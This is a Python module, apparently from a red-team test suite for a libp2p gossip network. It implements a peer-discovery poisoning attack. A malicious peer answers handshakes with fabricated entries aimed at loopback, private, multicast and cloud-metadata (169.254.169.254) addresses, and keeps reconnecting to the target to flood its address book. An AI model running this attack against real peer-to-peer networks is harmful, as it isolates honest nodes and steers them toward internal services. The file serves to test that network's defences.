"""Greetings that name thirty-two peers that do not exist, at addresses of this machine and of a cloud's own (K-D).

Hearsay drove every honest address out of the address book, and peers dialled wherever the attacker pointed.
"""

from __future__ import annotations

import os
import random

from libp2p.utils.varint import encode_varint_prefixed

from p2p.base.keys import peer_id
from p2p.base.limits import MAX_PEERS_SHARED
from p2p.gossip.connections.topics import PEERS_PROTOCOL
from p2p.gossip.discovery.handshake import Entry, pack_welcome
from tests.gossip.lab import info
from tests.redteam.target import Target, each_tick, quietly

PER_S = 4.0


def _entry() -> Entry:
    host = random.choice(("127.0.0.1", "169.254.169.254", "10.0.0.1", "0.0.0.0", "224.0.0.1"))
    return Entry(peer_id(os.urandom(32)), (f"/ip4/{host}/tcp/{random.randrange(1, 65536)}",))


async def attack(target: Target) -> None:
    async with target.bare("invented peers") as host:
        async def welcome(stream: object) -> None:
            await stream.read(2000)  # type: ignore[attr-defined]
            entries = tuple(_entry() for _ in range(MAX_PEERS_SHARED))
            await stream.write(encode_varint_prefixed(pack_welcome((), entries)))  # type: ignore[attr-defined]
            await stream.close()  # type: ignore[attr-defined]

        host.set_stream_handler(PEERS_PROTOCOL, lambda stream: quietly(welcome, stream))
        async for _ in each_tick(PER_S):  # each new connection is greeted anew
            for peer in list(host.get_connected_peers()):
                await quietly(host.disconnect, peer)
            for address in target.addresses:
                await quietly(host.connect, info(address), timeout_s=3.0)
